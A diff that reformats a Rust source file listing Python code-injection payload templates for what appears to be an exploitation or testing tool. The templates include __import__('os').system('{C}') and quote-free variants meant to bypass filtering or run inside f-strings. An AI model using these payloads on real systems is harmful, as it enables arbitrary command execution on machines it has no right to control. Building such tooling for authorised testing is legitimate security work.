@@ -7,11 +7,7 @@
 use super::{Payload, PayloadClass};
 
 const fn python(id: &'static str, template: &'static str) -> Payload {
-    Payload {
-        id,
-        class: PayloadClass::PythonCode,
-        template,
-    }
+    Payload { id, class: PayloadClass::PythonCode, template }
 }
 
 /// Best first.
@@ -40,14 +36,8 @@ pub(super) const PAYLOADS: &[Payload] = &[
     python("python-attribute", "__doc__,__import__('os').system('{C}')"),
     python("python-expression", "__import__('os').system('{C}')"),
     // Text that becomes the inside of an f-string, its quotes removed or escaped.
-    python(
-        "python-format-field",
-        "{__import__(max(dict(os=0))).system(max(dict({C}=0)))}",
-    ),
-    python(
-        "python-no-quotes",
-        "__import__(max(dict(os=0))).system(max(dict({C}=0)))",
-    ),
+    python("python-format-field", "{__import__(max(dict(os=0))).system(max(dict({C}=0)))}"),
+    python("python-no-quotes", "__import__(max(dict(os=0))).system(max(dict({C}=0)))"),
     // The short form of the third, without a space.
     python(
         "python-no-builtins",
